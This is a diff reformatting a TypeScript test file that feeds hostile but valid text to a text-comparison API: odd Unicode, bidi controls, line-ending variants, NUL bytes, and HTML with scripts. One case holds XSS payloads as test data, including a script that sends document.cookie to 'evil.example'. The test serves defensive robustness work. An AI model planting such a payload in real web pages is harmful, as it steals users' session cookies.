@@ -1,6 +1,6 @@
 import t from 'tap';
-import { runTextCases, type TextCase, ARTICLE } from '../fixtures/hostile-texts.js';
 import { testApp } from '../fixtures/app.js';
+import { ARTICLE, runTextCases, type TextCase } from '../fixtures/hostile-texts.js';
 
 /**
  * Texts a scraper may send that are valid requests but hostile to a text pipeline. Each gets a
@@ -17,7 +17,8 @@ const cases: TextCase[] = [
   },
   {
     name: 'emoji, ZWJ sequences and flags',
-    original: '🔥 The council approved the budget 👩‍👩‍👧‍👦. It includes money for schools' +
+    original:
+      '🔥 The council approved the budget 👩‍👩‍👧‍👦. It includes money for schools' +
       ' 🏫🇺🇦.\n\nCritics said the plan was rushed 😡.',
     rewrite: 'The council approved the budget 👩‍👩‍👧‍👦. Critics said the plan was rushed 😡. 🇺🇦🇺🇦',
   },
@@ -28,26 +29,32 @@ const cases: TextCase[] = [
   },
   {
     name: 'right-to-left text with bidi controls',
-    original: 'وافق المجلس على الميزانية يوم الاثنين. وقال المنتقدون إن الخطة' +
+    original:
+      'وافق المجلس على الميزانية يوم الاثنين. وقال المنتقدون إن الخطة' +
       ' متسرعة.\n\n\u202eThe council approved\u202c the budget. שלום עולם.',
     rewrite: 'وافق المجلس على الميزانية يوم الاثنين. \u2067שלום\u2069 עולם.',
   },
   {
     name: 'combining marks and decomposed accents',
-    original: 'Zoe\u0301 met Jose\u0301 in Sa\u0303o Paulo. Z̸̡̢͖̟̤a̵̧̛̘͚l̷̰͎g̶̣̈́o̴̜͗ text' +
-      ' followed.\n\nThe cafe\u0301 closed.',
+    original: 'Zoe\u0301 met Jose\u0301 in Sa\u0303o Paulo. Z̸̡̢͖̟̤a̵̧̛̘͚l̷̰͎g̶̣̈́o̴̜͗ text' + ' followed.\n\nThe cafe\u0301 closed.',
     rewrite: 'Zoé met José in São Paulo. The cafe\u0301 closed.',
   },
-  { name: 'CRLF line endings', original: ARTICLE.replace(/\n/g, '\r\n'), rewrite: `${ARTICLE.replace(/\n/g, '\r\n')}\r\n` },
+  {
+    name: 'CRLF line endings',
+    original: ARTICLE.replace(/\n/g, '\r\n'),
+    rewrite: `${ARTICLE.replace(/\n/g, '\r\n')}\r\n`,
+  },
   {
     name: 'CR-only line endings',
     original: ARTICLE.replace(/\n/g, '\r'),
     rewrite: 'Critics said the plan was rushed.\r\rThe council approved the budget on Monday.',
-    check: (t, out) => t.ok(out.original.paragraphs.length >= 2, `CR CR separates paragraphs (${out.original.paragraphs.length})`),
+    check: (t, out) =>
+      t.ok(out.original.paragraphs.length >= 2, `CR CR separates paragraphs (${out.original.paragraphs.length})`),
   },
   {
     name: 'HTML with scripts sent as text',
-    original: '<p>The council approved the budget.</p><script>alert(document.cookie)</script><img src=x onerror="alert(1)">',
+    original:
+      '<p>The council approved the budget.</p><script>alert(document.cookie)</script><img src=x onerror="alert(1)">',
     rewrite: '"><script>fetch("//evil.example/?c="+document.cookie)</script> The council approved the budget.',
   },
   {
@@ -61,7 +68,11 @@ const cases: TextCase[] = [
   },
   { name: 'a one-character article', original: 'x', rewrite: '.' },
   { name: 'only punctuation', original: '... !!! ??? — – ***', rewrite: '"""' },
-  { name: 'zero-width and odd spaces', original: 'The\u200bcouncil\u00a0approved\u2028the\u2029budget.\ufeff Critics\u3000objected.', rewrite: '\ufeffThe council approved the budget.' },
+  {
+    name: 'zero-width and odd spaces',
+    original: 'The\u200bcouncil\u00a0approved\u2028the\u2029budget.\ufeff Critics\u3000objected.',
+    rewrite: '\ufeffThe council approved the budget.',
+  },
 ];
 
 await runTextCases(cases);
@@ -69,10 +80,14 @@ await runTextCases(cases);
 // A NUL is not text: such a field is refused (415, naming it) rather than compared as claims of garbage.
 t.test('415 BINARY_CONTENT: NUL bytes inside sentences', async (t) => {
   const app = await testApp(t, { config: { inlineMaxChars: 0 } });
-  const res = await app.inject({ method: 'POST', url: '/v1/compare', payload: {
-    original: { text: 'The council\u0000 approved the budget.\u0000\n\n\u0000Critics objected.' },
-    rewrite: { text: 'The council approved the budget. Critics objected.' },
-  } });
+  const res = await app.inject({
+    method: 'POST',
+    url: '/v1/compare',
+    payload: {
+      original: { text: 'The council\u0000 approved the budget.\u0000\n\n\u0000Critics objected.' },
+      rewrite: { text: 'The council approved the budget. Critics objected.' },
+    },
+  });
   t.equal(res.statusCode, 415);
   t.match(res.json(), { code: 'BINARY_CONTENT', errors: [{ field: 'body.original.text', rule: 'text' }] });
 });
